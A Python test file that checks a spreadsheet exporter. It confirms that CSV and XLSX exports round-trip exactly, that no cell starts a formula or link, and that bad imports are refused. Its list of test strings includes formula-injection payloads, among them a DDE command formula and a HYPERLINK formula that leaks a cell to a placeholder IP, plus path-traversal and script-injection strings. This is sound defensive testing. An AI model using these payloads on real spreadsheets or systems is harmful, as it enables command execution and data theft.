"""Exports: what is written is read back value for value, and nothing in them begins a formula."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from campaign.sheets import Column, Kind, Table, UnreadableSheet, read_back, write_csv, write_xlsx
from campaign.sheets.cells import begins_formula, guard, pack, unguard, unpack

TABLE = Table(
    name="Everything",
    currency="EUR",
    columns=(
        Column("Text"), Column("Count", Kind.COUNT), Column("Money", Kind.MONEY), Column("Day", Kind.DAY),
        Column("Moment", Kind.MOMENT), Column("Flag", Kind.FLAG), Column("Last"),
    ),
)  # fmt: skip
WAYS = (write_csv, write_xlsx)
# Strings that have broken spreadsheets, importers and mail programs; common practice, and of our own making.
NASTY = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\xa0=1", "\ufeff=1", "\u200b=1", "＝1+1", "＋1",
    "－1", "＠A", "'=1", "''=1", "'", "''", "'tis", "' =1", "'\t", "\"", "\"\"", "\"=1\"", ",", ";", "a\r\nb", "\r",
    "\n", "\t", "\x00", "a\x00b", "\x01=1", "\x7f", "\x85", "\u2028", "\ufffe", "\uffff", "_x000D_", "x005F_",
    "_x005F_x000D_", "ax005F_b", "␛", "␛1;", "␛␛", "␛110000;", "true", "TRUE", "yes", "1e5", "007", "00:00", "1/2",
    "2026-03-10", "1.234,50", "=HYPERLINK(\"http://192.0.2.1/?x=\"&A1,\"look\")", "=cmd|' /C calc'!A0",
    "http://192.0.2.1/", "mailto:a@example.org", "internal:Sheet1!A1", "{=1}", "{1,2}", "#REF!", "#N/A",
    "../../etc/passwd", "<script>alert(1)</script>", "&amp;", "]]>", "שלום", "\u202eabc", "é",
    "\U0001f5bc\ufe0f\U0001f469\u200d\U0001f3a8", "Łódź", "ß", "  two  spaces  ", " ", "", "a" * 2000,
    "Subject: x\r\nBcc: y",
)  # fmt: skip
TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=60) | st.sampled_from(NASTY)
MINOR = st.integers(min_value=-(10**15), max_value=10**15)
DAYS = st.none() | st.dates(min_value=date(1, 1, 1), max_value=date(2200, 12, 31))
MOMENTS = st.none() | st.integers(-(10**15), 10**15).map(
    lambda us: datetime(2026, 3, 10, tzinfo=UTC) + timedelta(microseconds=us)
)
ROWS = st.lists(
    st.tuples(TEXT, st.integers(-(2**50), 2**50), MINOR, DAYS, MOMENTS, st.booleans(), TEXT), max_size=6
)  # fmt: skip
PLAIN = (1, -250, date(2026, 3, 10), datetime(2026, 3, 10, 12, tzinfo=UTC), True)


@pytest.mark.parametrize("write", WAYS)
@given(rows=ROWS)
def test_what_is_written_is_read_back(write, rows):
    assert read_back(write(TABLE, rows), table=TABLE) == rows


@pytest.mark.parametrize("write", WAYS)
def test_nasty_text_is_read_back_one_by_one(write):
    rows = [(text, *PLAIN, text) for text in NASTY]
    assert read_back(write(TABLE, rows), table=TABLE) == rows


@pytest.mark.parametrize("write", WAYS)
def test_the_same_rows_give_the_same_bytes(write):
    assert write(TABLE, [("a", *PLAIN, "b")]) == write(TABLE, [("a", *PLAIN, "b")])


def _runs(cell: str) -> bool:
    """What a spreadsheet may run: one of the six beginnings, after what it passes over; written apart from ours."""
    passed = "".join(
        chr(n) for n in (*range(33), 127, 133, 160, 0x2028, 0x2029, 0xFEFF, *range(0x200B, 0x2010), 0x2060)
    )
    bare = cell.lstrip(passed)
    return bare[:1] in tuple("=+-@＝＋－＠") or cell[:1] in ("\t", "\r", "\n")


@given(text=TEXT)
@example(text="'=1")
def test_no_text_in_csv_begins_a_formula(text):
    data = write_csv(TABLE, [(text, *PLAIN, text)]).decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(data, newline="")))[1]
    assert not _runs(cells[0]) or cells[0] == ""
    assert not _runs(cells[-1]) or cells[-1] == ""


@given(text=TEXT)
@example(text="=1+1")
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(text):
    data = write_xlsx(TABLE, [(text, *PLAIN, text)])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d", "inlineStr"}
    assert not any(cell.hyperlink for row in sheet.iter_rows() for cell in row)
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert not [name for name in names if ("rels" in name and "sheet" in name) or "external" in name]


@given(text=TEXT)
def test_guarding_and_packing_lose_nothing(text):
    assert unguard(guard(text)) == text
    assert unpack(pack(text)) == text
    assert not begins_formula(guard(text))


@pytest.mark.parametrize(
    ("currency", "minor", "shown"), [("JPY", 1250, "1250"), ("EUR", 1250, "12.50"), ("KWD", 1250, "1.250")]
)
def test_money_is_a_number_with_its_currency_s_digits(currency, minor, shown):
    table = Table("Money", (Column("Money", Kind.MONEY),), currency)
    assert write_csv(table, [(minor,)]).decode("utf-8-sig").splitlines()[1] == shown
    for write in WAYS:
        assert read_back(write(table, [(minor,)]), table=table) == [(minor,)]


def test_columns_in_another_order_and_semicolons_are_read_all_the_same():
    table = Table("Two", (Column("A"), Column("B", Kind.COUNT)), "EUR")
    assert read_back(b"B;more;A\r\n3;x;y\r\n", table=table) == [("y", 3)]


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "no export"),
        (b"A,C\r\n", "The column “B”"),
        (b"A,B\r\nx,many\r\n", "Row 2, column “B”: “many”"),
        (b"A,B\r\nx,1.5\r\n", "Row 2, column “B”"),
        (b"A,B\r\n\xff\xfe,1\r\n", "UTF-8"),
        (b'A,B\r\n"x,1\r\n', "no CSV"),
        (b"PK\x03\x04 rubbish", "damaged"),
        (b"a" * 20_000_001, "20 MB"),
    ],
)
def test_a_file_from_elsewhere_is_refused_with_a_sentence(data, words):
    table = Table("Two", (Column("A"), Column("B", Kind.COUNT)), "EUR")
    with pytest.raises(UnreadableSheet, match=words):
        read_back(data, table=table)


def test_a_damaged_sign_is_refused():
    with pytest.raises(UnreadableSheet):
        unpack("␛110000;")


def test_text_that_no_cell_can_hold_is_refused():
    with pytest.raises(ValueError, match="32767"):
        write_xlsx(TABLE, [("a" * 32_768, *PLAIN, "")])


def test_a_moment_in_another_zone_is_the_same_moment():
    moment = datetime(2026, 3, 10, 12, tzinfo=UTC) + timedelta(microseconds=1)
    table = Table("When", (Column("At", Kind.MOMENT),), "EUR")
    assert read_back(write_xlsx(table, [(moment,)]), table=table) == [(moment,)]
